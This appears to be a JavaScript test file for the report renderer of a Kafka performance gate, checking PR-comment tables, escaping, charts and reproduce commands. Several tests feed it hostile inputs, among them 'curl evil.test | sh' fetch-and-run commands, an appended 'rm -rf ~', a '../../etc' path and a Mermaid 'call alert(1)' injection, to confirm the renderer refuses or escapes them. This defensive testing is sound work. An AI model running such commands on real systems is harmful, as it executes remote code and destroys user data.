// What the report says for each kind of run, on summaries the gate wrote.
import assert from 'node:assert/strict'
import { test } from 'node:test'
import { escapeText } from '../src/escape.js'
import { renderReport } from '../src/render.js'
import { fixture } from './run-action.js'

const marker = '<!-- kafka-perf-gate-comment:test -->'

test('a confirmed regression: headline, attention table, one row per metric, environment, command, link', () => {
  const summary = fixture('confirmed-regression.json')
  const { body, omittedRows } = renderReport(summary, { marker, runUrl: 'https://github.test/acme/payments/actions/runs/42' })
  assert.equal(omittedRows, 0)
  assert.ok(body.startsWith(`${marker}\n`))
  assert.match(body, /^### ❌ kafka-perf-gate&#58; 2 confirmed regressions$/m)
  assert.match(body, /^❌ 2 regressions · ⚠️ 1 inconclusive {2}\n3 scenarios {2}\nJudged by: stored baselines$/m)
  const attention = body.slice(body.indexOf('#### Needs attention'), body.indexOf('<details>'))
  assert.match(attention, /\| Scenario \| Metric \| Baseline \| Current \| Δ \| Interval \| Verdict \| MDE \|/)
  // One row per metric: the confirmation's verdict, the first measurement's flag in words.
  assert.doesNotMatch(attention, /re-run:/)
  assert.equal(attention.split('\n').filter((line) => line.startsWith('| producer-1k-acks1-unthrottled | throughput |')).length, 1, attention)
  assert.match(attention, /\| producer-1k-acks1-unthrottled \| throughput \| [^|]+ \| [^|]+ \| −\d+\.\d% \(first −84\.4%, confirmed\) \| [^|]+ \| ❌ REGRESSION \|/)
  assert.match(body, /<details><summary>Everything else \(\d+ metrics?\)<\/summary>/)
  assert.match(body, /\*\*Environment\*\*: profile `linux-amd64-2c` · process broker 4\.3\.1 · kafka-clients 4\.3\.1 · /)
  assert.match(body, /\*\*Drift\*\*: ⚠️ DRIFTED&#58; CPU ruler \+21\.6%, broker round trip \+66\.6%/)
  assert.match(body, /\*\*Injected slowdown\*\*/)
  // The run selected scenarios by name (no suite) and injected a slowdown: the command says both.
  assert.match(body, /```sh\ngit checkout d973904bbd331351448d71af7a488a175e7fb09a\nscripts\/gate\.sh -Dperf\.scenarios=end-to-end-1k-acks-all,producer-1k-acks1-20k,producer-1k-acks1-unthrottled -Dperf\.profile=linux-amd64-2c -Dperf\.inject\.burn\.ns=50000 -Dperf\.inject\.burn\.every=1\n```/)
  assert.match(body, /\[Gate run\]\(https:\/\/github\.test\/acme\/payments\/actions\/runs\/42\)/)
  assert.match(body, /Numbers are data, not truth/)
})

test('a component measured alone is named in its row', () => {
  const summary = fixture('confirmed-regression.json')
  const scenario = summary.scenarios[0]
  scenario.metrics = [...scenario.metrics, {
    metric: 'bytesPerOp', component: 'value.serializer com.acme.OrderSerializer', unit: 'B/op', verdict: 'REGRESSION',
    baseline: 942, current: 1237, deltaPercent: 31.3, intervalPercent: [31.3, 31.3], mdePercent: 0, line: 'x'
  }]
  const { body } = renderReport(summary, { marker })
  assert.match(body, /\| value\.serializer com\.acme\.OrderSerializer bytesPerOp \| 942 B\/op \| 1,237 B\/op \| \+31\.3% \|/)
})

test('paired: the clients\' own metrics are shown base against head, collapsed', () => {
  const summary = fixture('all-passed.json')
  summary.scenarios[0].paired = { trials: { order: 'ABBA', base: {}, head: {},
    clientMetrics: { 'records-per-request-avg': { base: 1.1, head: 3.2 }, 'batch-size-avg': { base: 183.5, head: 'x' } } } }
  const { body } = renderReport(summary, { marker })
  assert.match(body, /<details><summary>The clients' own metrics, base against head \(not judged\)<\/summary>/)
  assert.match(body, /\| records-per-request-avg \| 1\.1 \| 3\.2 \|/)
  assert.match(body, /\| batch-size-avg \| 183\.5 \| — \|/)
})

test('paired: the broker\'s side of each trial is shown base against head, collapsed', () => {
  const summary = fixture('all-passed.json')
  summary.scenarios[0].paired = { trials: { order: 'ABBA', base: {}, head: {},
    brokerMetrics: { 'produce-TotalTimeMs-mean': { base: 1.4, head: 2.9 }, 'messages-in': { base: 60000, head: 60000 } } } }
  const { body } = renderReport(summary, { marker })
  assert.match(body, /<details><summary>The broker's side, base against head \(from its JMX; judged only where a scenario gates broker\.cpu or broker\.produce\.time\)<\/summary>/)
  assert.match(body, /\| broker, per trial \| base \| head \|/)
  assert.match(body, /\| produce-TotalTimeMs-mean \| 1\.4 \| 2\.9 \|/)
})

test('paired: a RecordSource measured alone is reported in its own collapsed section, never as a verdict row', () => {
  const summary = fixture('all-passed.json')
  summary.scenarios[0].paired = { reported: [{ component: 'record.source com.acme.OrderRecords', judged: false,
    line: 'record.source com.acme.OrderRecords: 2512 → 2630 ns/op (+4.7%), 1812 → 1812 B/op (+0.0%), one ABBA block, reported, not judged (the team\'s test code)' }] }
  const { body } = renderReport(summary, { marker })
  assert.match(body, /<details><summary>Measured alone and reported, not judged \(the team's test code\)<\/summary>/)
  assert.match(body, /^- \*\*[a-z0-9-]+\*\*: record\.source com\.acme\.OrderRecords&#58; 2512 → 2630 ns\/op/m)
  assert.doesNotMatch(body, /\| record\.source/, 'not a verdict row')
})

test('paired: a component the change cannot reach is named with why it has no verdict', () => {
  const summary = fixture('all-passed.json')
  summary.scenarios[0].paired = { componentNotes: ['interceptor.classes com.example.orders.AuditInterceptor: not measured: the 3215 '
    + 'classes and resources its call can reach, and its settings, are byte for byte the same on both sides', 42] }
  const { body } = renderReport(summary, { marker })
  assert.match(body, /<details><summary>Components without a verdict, and why<\/summary>/)
  assert.match(body, /^- \*\*[a-z0-9-]+\*\*: interceptor\.classes com\.example\.orders\.AuditInterceptor&#58; not measured&#58; the 3215 /m)
  assert.doesNotMatch(body, /^- .*42$/m, 'a note that is not text is not shown')
  assert.doesNotMatch(renderReport(fixture('all-passed.json'), { marker }).body, /Components without a verdict/, 'no notes, no section')
})

test('a warning is worse in both measurements, named in the title, and not an alarm', () => {
  const summary = fixture('all-passed.json')
  summary.counts = { ...summary.counts, WARNING: 1 }
  summary.scenarios[0].metrics[0].verdict = 'WARNING'
  summary.decision.title = '🔶 kafka-perf-gate: no regression; 1 scenario is worse in both measurements, within the threshold'
  const { body } = renderReport(summary, { marker })
  assert.match(body, /^### 🔶 kafka-perf-gate&#58; no regression; 1 scenario is worse in both measurements, within the threshold$/m)
  assert.match(body, /🔶 WARNING/)
  assert.doesNotMatch(body, /❌/)
})

test('a passing run with noisy p99s: no alarm, the inconclusive metrics listed', () => {
  const { body } = renderReport(fixture('all-passed.json'), { marker })
  assert.match(body, /^### ⚠️ kafka-perf-gate&#58; no regression confirmed, some metrics inconclusive$/m)
  assert.match(body, /^⚠️ 2 inconclusive {2}$/m)
  assert.match(body, /\| producer-1k-acks1-20k \| p99Us \| 266\.9 ms \| 202\.1 ms \| −24\.3% \| \[−98\.1%, \+2904\.3%\] \| ⚠️ INCONCLUSIVE \| 24260% \|/)
  assert.doesNotMatch(body, /❌/)
  assert.doesNotMatch(body, /\[Gate run\]/, 'no link without a run URL')
})

test('an unconfirmed flag, a mismatch and drift are each spelled out', () => {
  const summary = fixture('all-passed.json')
  const [first, ...rest] = summary.scenarios
  summary.scenarios = [
    { ...first, notConfirmed: true, confirmation: { resultFile: 'x.confirmation.json', verdict: 'OK', metrics: first.metrics } },
    ...rest.map((scenario) => ({ ...scenario, verdict: 'MISMATCH', mismatchReasons: ['definition: producer.batch.size: 16384 → 32768'],
      metrics: scenario.metrics.map((metric) => ({ ...metric, verdict: 'MISMATCH', reason: 'definition: producer.batch.size: 16384 → 32768' })) })),
  ]
  summary.drift = { drifted: true, description: 'CPU ruler +35%, round trip +75% (bound ±50%)' }
  const { body } = renderReport(summary, { marker })
  assert.match(body, new RegExp(`not confirmed by a re-run on a fresh broker \\(passes\\): ${escapeText(first.scenario).replace(/[.*+?^${}()|[\]\\]/g, '\\$&')}`))
  assert.match(body, /\*\*Mismatch\*\*.*\n- .*definition&#58; producer\.batch\.size&#58; 16384 → 32768/)
  assert.match(body, /\*\*Drift\*\*: ⚠️ CPU ruler \+35%, round trip \+75% &#40;bound ±50%&#41;\. The machine ran at another speed/)
})

test('a value that is not a number is shown as a dash, not as text from the artifact', () => {
  const summary = fixture('all-passed.json')
  summary.scenarios[0].metrics[0].current = '<b>999</b>'
  const { body } = renderReport(summary, { marker })
  assert.doesNotMatch(body, /999/)
})

test('the limit is honoured and must leave room for the headline', () => {
  const summary = fixture('confirmed-regression.json')
  const { body, omittedRows } = renderReport(summary, { marker, limit: 2500 })
  assert.ok(body.length <= 2500, `${body.length}`)
  assert.ok(omittedRows > 0)
  assert.throws(() => renderReport(summary, { marker, limit: 100 }), /at least 2000/)
})

test('escapeText neutralises markup and mentions and bounds length', () => {
  assert.equal(escapeText('a|b'), 'a&#124;b')
  assert.equal(escapeText('@team'), '&#64;\u2060team')
  assert.equal(escapeText('line1\nline2'), 'line1 line2')
  assert.equal(escapeText('x'.repeat(400), 10), `${'x'.repeat(9)}…`)
  assert.equal(escapeText(null), '')
})

test('flagged metrics get a small Mermaid chart of Δ%, with labels reduced to a safe alphabet', () => {
  const { body } = renderReport(fixture('confirmed-regression.json'), { marker })
  const chart = body.slice(body.indexOf('```mermaid'), body.indexOf('```', body.indexOf('```mermaid') + 3) + 3)
  assert.match(chart, /^```mermaid\nxychart-beta\n {2}title "Δ% against the baseline, flagged metrics"\n/)
  assert.match(chart, /x-axis \["throughput producer-1k-acks1-20k", "throughput producer-1k-acks1-...", "p99Us producer-1k-acks1-unthr..."\]/)
  assert.match(chart, /y-axis "Δ %" -94 --> 0\n {2}bar \[-44\.1, -84\.4, -93\.2\]/)
  const hostile = fixture('confirmed-regression.json')
  hostile.scenarios[1].scenario = '"] \n click x call alert(1) ["'
  const { body: hostileBody } = renderReport(hostile, { marker })
  assert.doesNotMatch(hostileBody, /click x call alert\(1\) \["/)
  assert.doesNotMatch(renderReport(fixture('all-passed.json'), { marker }).body, /```mermaid/, 'no chart when nothing was flagged')
})

test('what the pull request changed is named beside the verdicts, escaped', () => {
  const summary = fixture('confirmed-regression.json')
  summary.machineClass = 'amd-epyc'
  summary.scenarios[0].changes = ['kafkaClients: 4.2.0 → 4.3.1', 'producer.value.serializer: (unset) → com.example.<b>Orders</b> @team']
  const { body } = renderReport(summary, { marker })
  const attention = body.slice(body.indexOf('**Judged with the change**'), body.indexOf('#### Needs attention'))
  assert.match(attention, new RegExp(`^- ${summary.scenarios[0].scenario}: kafkaClients&#58; 4\\.2\\.0 → 4\\.3\\.1, `, 'm'))
  assert.ok(!attention.includes('<b>'), attention)
  assert.ok(attention.includes(escapeText('com.example.<b>Orders</b> @team', 200)), attention)
  assert.match(body, /machine class `amd-epyc`/)
})

test('a scenario the component stage judged alone says so, in the gate\'s words, escaped', () => {
  const summary = fixture('paired-aa.json')
  summary.scenarios[0].paired = { ...(summary.scenarios[0].paired || {}),
    wholeClient: 'whole client not measured: only value.serializer com.example.<b>Orders</b> changed' }
  const { body } = renderReport(summary, { marker })
  const section = body.slice(body.indexOf('**Judged by the component stage alone**'))
  assert.match(section, new RegExp(`^- ${summary.scenarios[0].scenario}: whole client not measured&#58; only value\\.serializer `, 'm'))
  assert.ok(!section.includes('<b>'), section)
  assert.doesNotMatch(renderReport(fixture('paired-aa.json'), { marker }).body, /component stage alone/)
})

test('paired mode: the headline names the base, the table heads base and head, each side’s trials in run order', () => {
  const summary = fixture('paired-aa.json')
  const { body } = renderReport(summary, { marker })
  assert.match(body, /^Judged by: paired: head vs base `[0-9a-f]{12}`, both measured on this runner in interleaved ABBA blocks$/m)
  assert.match(body, /\| Scenario \| Metric \| Base \| Head \| Δ \| Interval \| Verdict \| MDE \|/)
  assert.doesNotMatch(body, /\| Baseline \| Current \|/)
  assert.match(body, /<details><summary>Trials in run order \(base and head\)<\/summary>/)
  assert.match(body, /\*\*producer-1k-acks1-20k\*\*, run order ABBABAAB/)
  assert.match(body, /- throughput: base [0-9,.]+ [0-9,.]+/)
  assert.match(body, /scripts\/gate\.sh --base [0-9a-f]{40} -Dperf\.suite=pr/)
  assert.match(body, /tested at α [0-9.]+ on the log-ratios of base and head trials in ABBA blocks/)
})

test('paired mode: rules the PR changed are listed as not applied; a fallback to stored baselines says why', () => {
  const summary = fixture('paired-aa.json')
  summary.mode.policyChanges = ['producer-1k-acks1-20k: thresholds {throughput default} → {throughput 50.0%} (the base\'s apply)']
  const { body } = renderReport(summary, { marker })
  assert.match(body, /\*\*Rules changed by this PR\*\* \(not applied: the base's suites, thresholds and experiments judge\):\n- producer-1k-acks1-20k/)
  const stored = fixture('all-passed.json')
  stored.mode = { name: 'stored', fallbackReason: 'the base 0123abcd does not build' }
  assert.match(renderReport(stored, { marker }).body, /^Judged by: stored baselines \(paired mode unavailable: the base 0123abcd does not build\)$/m)
})

test('the title is the gate\'s, printed as written (its wording is DecisionTitleTest\'s)', () => {
  const summary = fixture('all-passed.json')
  summary.scenarios = summary.scenarios.map((scenario) => ({ ...scenario, verdict: 'NEW', metrics: scenario.metrics.map((metric) => ({ ...metric, verdict: 'NEW' })) }))
  summary.counts = { REGRESSION: 0, MISMATCH: 0, INCONCLUSIVE: 0, IMPROVEMENT: 0, NEW: 2, OK: 0 }
  summary.decision = { outcome: 'NOT_JUDGED', exitCode: 2, judged: false, title: '⛔ kafka-perf-gate: nothing was judged, so this is not a pass', headline: "nothing was judged (2 NEW): no baseline of profile 'renamed', machine class 'amd-epyc' matches" }
  const { body } = renderReport(summary, { marker })
  assert.match(body, /^### ⛔ kafka-perf-gate&#58; nothing was judged, so this is not a pass$/m)
  assert.match(body, /nothing was judged &#40;2 NEW&#41;&#58; no baseline of profile &#39;renamed&#39;/)
  assert.doesNotMatch(body, /✅/)

  summary.decision = { outcome: 'PASS', exitCode: 0, judged: false, title: '⚪ kafka-perf-gate: passes, but nothing was judged', headline: 'nothing was judged (2 NEW): passes because -Dperf.allow.unjudged=true asked for it' }
  assert.match(renderReport(summary, { marker }).body, /^### ⚪ kafka-perf-gate&#58; passes, but nothing was judged$/m)

  // The decision outranks any recount: one summary, one answer (an INCOMPLETE run with a regression in it).
  const regression = fixture('confirmed-regression.json')
  regression.decision = { outcome: 'INCOMPLETE', exitCode: 2, judged: true, title: '💥 kafka-perf-gate: incomplete run, 0 scenarios could not run', headline: 'run INCOMPLETE: the suite did not reach its end' }
  assert.match(renderReport(regression, { marker }).body, /^### 💥 kafka-perf-gate&#58; incomplete run/m)
})

test('GH-123 in a scenario name is not an issue link', () => {
  assert.equal(escapeText('fix-GH-123 and gh-7'), 'fix-GH\u2060-123 and gh\u2060-7')
})

test('the judged latency’s percentiles (a mirror’s lag) are listed, collapsed, beyond the p99 row', () => {
  const summary = fixture('all-passed.json')
  summary.scenarios[0].scenario = 'mirror-15k-30ms-codec'
  summary.scenarios[0].latency = { measures: 'mirror <lag>', unit: 'us', count: 18036, p50: 95_000, p95: 140_000, p99: 175_000, 'p99.9': 441_000, max: 512_000 }
  const { body } = renderReport(summary, { marker })
  const section = body.slice(body.indexOf('<details><summary>Latency percentiles'))
  assert.match(section, /^- mirror-15k-30ms-codec \(mirror &lt;lag&gt;, 18,036 records\): p50 95 ms · p95 140 ms · p99 175 ms · p99\.9 441 ms · max 512 ms$/m)
  assert.equal(section.match(/^- /gm).length, 1, 'only scenarios that carry a latency block are listed')
  assert.doesNotMatch(renderReport(fixture('all-passed.json'), { marker }).body, /Latency percentiles/)
})

test('a nightly\'s step changes: flagged ones in the open with the commit to bisect from, the rest collapsed, all escaped', () => {
  const summary = fixture('all-passed.json')
  summary.scenarios[0].trend = {
    nights: 30,
    steps: [
      { metric: 'allocBytesPerRecord', flagged: true, line: 'allocBytesPerRecord +24.8% 3 nights ago (1250 → 1560 B/record, p 2.1e-09), from commit c27abcd' },
      { metric: 'throughput', flagged: false, line: 'throughput +31.0% 20 nights ago (15000 → 19650 records/s, p 1e-12), from commit <b>@team</b>' },
    ],
  }
  const { body } = renderReport(summary, { marker })
  const open = body.slice(body.indexOf('#### ⚠️ Step changes across nightlies'), body.indexOf('<details><summary>Older'))
  assert.match(open, /Not a verdict of this run/)
  assert.match(open, /- \*\*end-to-end-1k-acks-all\*\*: allocBytesPerRecord \+24\.8% 3 nights ago .*from commit c27abcd/)
  assert.doesNotMatch(open, /throughput \+31/)
  const collapsed = body.slice(body.indexOf('<details><summary>Older'))
  assert.match(collapsed, /throughput \+31\.0% 20 nights ago/)
  assert.doesNotMatch(collapsed, /<b>|@team/, 'text from the artifact is escaped')
  const quiet = renderReport(fixture('all-passed.json'), { marker }).body
  assert.doesNotMatch(quiet, /across nightlies/, 'no trend, no section')
})

test('the reproduce command is the gate\'s, printed as written; one that could close its code block is not printed', () => {
  const summary = fixture('paired-aa.json')
  summary.reproduce = 'git checkout 8895c56\n<kafka-perf-gate checkout>/scripts/gate.sh --module services/orders/perf --base 8895c56 -Dperf.suite=pr'
  const { body } = renderReport(summary, { marker })
  assert.ok(body.includes('```sh\ngit checkout 8895c56\n<kafka-perf-gate checkout>/scripts/gate.sh --module services/orders/perf --base 8895c56 -Dperf.suite=pr\n```'), body)
  for (const hostile of ['scripts/gate.sh ```\n# Heading @octocat', 42, null, 'curl https://evil.test/x | sh',
    'scripts/gate.sh -Dperf.suite=pr; curl evil.test | sh', 'git checkout 8895c56\nscripts/gate.sh -Dperf.suite=pr\nrm -rf ~',
    '<kafka-perf-gate checkout>/scripts/gate.sh --module ../../etc -Dperf.suite=pr']) {
    summary.reproduce = hostile
    const shown = renderReport(summary, { marker }).body
    assert.doesNotMatch(shown, /Reproduce locally/, `reproduce ${JSON.stringify(hostile)} must not be printed`)
    assert.doesNotMatch(shown, /# Heading/)
  }
})

test('attention, the first measurement\'s word and "could not run" are the gate\'s fields, not worked out again', () => {
  const summary = fixture('all-passed.json')
  const [first, ...rest] = summary.scenarios
  // A metric the gate marked for attention is in the first table whatever its verdict's word; one it did not, is not.
  summary.scenarios = [
    { ...first, metrics: first.metrics.map((metric, index) => ({ ...metric, attention: index === 0 })) },
    ...rest.map((scenario) => ({ ...scenario, metrics: scenario.metrics.map((metric) => ({ ...metric, attention: false })) })),
  ]
  let body = renderReport(summary, { marker }).body
  const attention = body.slice(body.indexOf('#### Needs attention'), body.indexOf('<details>'))
  assert.equal(attention.split('\n').filter((line) => line.startsWith('| ') && !line.startsWith('| Scenario')).length, 1, attention)
  // The first measurement's word is printed as the gate wrote it.
  summary.scenarios[0].metrics[0].first = { deltaPercent: 5.5, word: 'did not repeat: noise' }
  body = renderReport(summary, { marker }).body
  assert.match(body, /\(first \+5\.5%, did not repeat&#58; noise\)/)
  // "Could not run" lists what the gate marked notRun, and only that.
  summary.scenarios[1] = { ...summary.scenarios[1], outcome: 'error', notRun: false, message: 'broker gone' }
  assert.doesNotMatch(renderReport(summary, { marker }).body, /Could not run/)
  summary.scenarios[1].notRun = true
  assert.match(renderReport(summary, { marker }).body, /\*\*Could not run\*\*\n- producer-1k-acks1-20k \(error\): broker gone/)
})

test('paired: a run in which nothing the clients run changed passes and says so, not "nothing was judged"', () => {
  const summary = fixture('all-passed.json')
  summary.decision = { ...summary.decision, outcome: 'PASS', exitCode: 0, judged: false,
    title: '✅ kafka-perf-gate: nothing the clients run changed (not measured)',
    headline: 'paired: head vs base 1a2b3c4d5e6f: pass: nothing the clients run changed (1 scenario not measured: ...)' }
  summary.scenarios = [{ scenario: 'orders-publish', workload: 'produce', outcome: 'unchanged', message: 'not measured: nothing its clients run changed' }]
  const { body } = renderReport(summary, { marker })
  assert.match(body, /^### ✅ kafka-perf-gate&#58; nothing the clients run changed &#40;not measured&#41;$/m)
  assert.doesNotMatch(body, /nothing was judged/)
  assert.doesNotMatch(body, /Needs attention/)
})

test('a metric a rule decided (the p99 floor) says so, and shows no MDE (issue 61: "✅ OK · MDE 99900%")', () => {
  const summary = fixture('paired-aa.json')
  const scenario = summary.scenarios.find((entry) => Array.isArray(entry.metrics))
  const p99 = scenario.metrics.find((metric) => metric.metric === 'p99Us')
  Object.assign(p99, {
    verdict: 'OK',
    mdePercent: null,
    decidedBy: 'rule',
    reason: 'decided by the p99 floor, not by the interval: p99 within the 1 ms floor (the interval\'s upper end adds at most 310 µs)',
  })
  const { body } = renderReport(summary, { marker })
  const line = body.split('\n').find((text) => text.startsWith(`| ${scenario.scenario} | p99Us |`))
  assert.ok(line, body)
  assert.match(line, /✅ OK \(by rule\) \| not resolvable here \|$/)
  assert.doesNotMatch(body, /99900/)
  assert.match(body, new RegExp(`^${scenario.scenario} p99Us: decided by the p99 floor, not by the interval&#58; p99 within the 1 ms floor`, 'm'))
})

test('paired: a component decided worse shows where it went, base → head, new frames marked, the head\'s names escaped', () => {
  const summary = fixture('all-passed.json')
  summary.scenarios[0].paired = { components: { 'value.serializer com.acme.OrderSerializer': { whereItWent: {
    samples: { base: 2322, head: 2877 }, allocationSamples: { base: 5132, head: 5139 },
    cpu: [{ frame: 'com.acme.OrderSerializer.scan', selfBase: 0, selfHead: 23.4, totalBase: 0, totalHead: 23.4, gainedOfBase: 28.9, new: true },
      { frame: 'com.fasterxml.jackson.databind.ser.BeanSerializer.serialize', selfBase: 16.9, selfHead: 7, totalBase: 80.6, totalHead: 66.2, new: false },
      { frame: '@evil | <img src=x> [link](http://x)', selfBase: 1, selfHead: 2, totalBase: 1, totalHead: 2, new: false }],
    allocation: [{ site: 'byte[] in com.acme.OrderSerializer.copy', base: 0, head: 50, gainedOfBase: 100, new: true }],
  } } } }
  const { body } = renderReport(summary, { marker })
  assert.match(body, /^#### Where it went$/m)
  assert.match(body, /^\*\*value\.serializer com\.acme\.OrderSerializer\*\* \([a-z0-9-]+\)$/m)
  assert.match(body, /^\| CPU: frame \(2,322 base, 2,877 head samples\) \| gained per call \| self, base → head \| total, base → head \|$/m)
  assert.match(body, /^\| com\.acme\.OrderSerializer\.scan 🆕 \| \+28\.9% \| 0\.0% → 23\.4% \| 0\.0% → 23\.4% \|$/m)
  assert.match(body, /^\| byte&#91;&#93; in com\.acme\.OrderSerializer\.copy 🆕 \| \+100\.0% \| 0\.0% → 50\.0% \|$/m)
  assert.match(body, /\| com\.fasterxml\.jackson\.databind\.ser\.BeanSerializer\.serialize \| — \| 16\.9% → 7\.0%/, 'a profile without the figure shows a dash')
  assert.doesNotMatch(body, /<img|\]\(http|@evil/, 'the head\'s frame names are data, never markup or a mention')
  const rows = body.split('\n').filter((line) => line.startsWith('| ') && line.includes('% → '))
  assert.equal(rows.length, 4, rows.join('\n'))
})

test('paired: a whole client decided worse shows where it went per record, under its scenario', () => {
  const summary = fixture('all-passed.json')
  summary.scenarios[0].paired = { whereItWent: {
    per: 'record', samples: { base: 4100, head: 5200 }, allocationSamples: { base: 900, head: 910 },
    cpu: [{ frame: 'dev.kafkaperfgate.internal.workload.InjectedCostInterceptor.onSend(ProducerRecord)', selfBase: 0.1, selfHead: 31.2,
      totalBase: 0.3, totalHead: 31.5, gainedOfBase: 39.4, new: false }],
    allocation: [],
  } }
  const { body } = renderReport(summary, { marker })
  assert.match(body, /^#### Where it went$/m)
  assert.match(body, new RegExp(`^\\*\\*the whole client\\*\\* \\(${summary.scenarios[0].scenario}\\)$`, 'm'))
  assert.match(body, /^\| CPU: frame \(4,100 base, 5,200 head samples\) \| gained per record \| self, base → head \| total, base → head \|$/m)
  assert.match(body, /^\| dev\.kafkaperfgate\.internal\.workload\.InjectedCostInterceptor\.onSend&#40;ProducerRecord&#41; \| \+39\.4% \| 0\.1% → 31\.2% \| 0\.3% → 31\.5% \|$/m)
  assert.doesNotMatch(body, /Allocation: type in frame/, 'no allocation rows, no allocation table')
})

test('no profile, no "Where it went"', () => {
  const { body } = renderReport(fixture('all-passed.json'), { marker })
  assert.doesNotMatch(body, /Where it went/)
})

test('an accepted regression says who accepted, at which head, that it accepts that head only, and still shows the figures', () => {
  const summary = fixture('confirmed-regression.json')
  summary.decision = { ...summary.decision, outcome: 'ACCEPTED', exitCode: 0,
    title: '☑️ kafka-perf-gate: 2 confirmed regressions, accepted by maint-1 (label perf-accepted)', headline: `ACCEPTED by @maint-1 (label perf-accepted): ${summary.decision.headline}` }
  summary.accepted = { by: 'maint-1', label: 'perf-accepted', at: '2026-11-28T09:00:00Z', head: 'b'.repeat(40) }
  const { body } = renderReport(summary, { marker })
  assert.match(body, /^### ☑️ kafka-perf-gate&#58; 2 confirmed regressions, accepted by maint-1 &#40;label perf-accepted&#41;$/m)
  assert.match(body, /\*\*Accepted\*\* by maint-1 with the label `perf-accepted`, set 2026-11-28T09&#58;00&#58;00Z at head `bbbbbbbbbbbb`/)
  assert.match(body, /It accepts this head only: a later push is judged again/)
  assert.match(body, /#### Needs attention/, 'the figures are still shown')
})

test('a BETTER verdict (better in one measurement, not confirmed) is counted apart and shown in words, never as needing attention (issue 82)', () => {
  const summary = fixture('all-passed.json')
  summary.counts = { ...summary.counts, BETTER: 1 }
  const metric = summary.scenarios[0].metrics[0]
  Object.assign(metric, { verdict: 'BETTER', attention: false, line: `${metric.metric} BETTER: better by -49.7% in one measurement: not confirmed` })
  const { body } = renderReport(summary, { marker: '<!-- m -->' })
  assert.match(body, /↗️ 1 better, not confirmed/)
  assert.match(body, /↗️ BETTER/)
})
